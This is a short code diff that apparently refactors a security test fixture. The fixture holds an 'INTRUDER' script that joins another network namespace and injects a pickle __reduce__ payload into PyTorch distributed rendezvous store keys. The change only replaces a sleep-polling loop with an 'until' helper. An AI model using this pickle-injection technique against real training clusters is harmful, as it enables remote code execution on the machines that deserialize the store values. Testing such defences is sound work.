@@ -47,9 +47,10 @@ INTRUDER = """
 import ctypes, os, sys
 descriptor = os.open("/run/netns/{network}", os.O_RDONLY)
 assert ctypes.CDLL(None, use_errno=True).setns(descriptor, 0x40000000) == 0
-import base64, pickle, time
+import base64, pickle
 from datetime import timedelta
 import torch.distributed as dist
+from faults import until
 
 class Code:
     def __reduce__(self):
@@ -65,8 +66,7 @@ for key in store.list_keys():
     if key.rpartition("/")[2].startswith("torch.rendezvous"):
         for value in base64.b64encode(code).decode(), code, "a":  # as torch keeps a state; bare; and no base64
             store.set(key, value)
-            while not store.get(key).startswith(b"unisono signed "):
-                time.sleep(0.05)  # until an agent has read it, and restored the state
+            until(lambda: store.get(key).startswith(b"unisono signed "))  # an agent has read it, and restored the state
         print("rendezvous")
 """
 
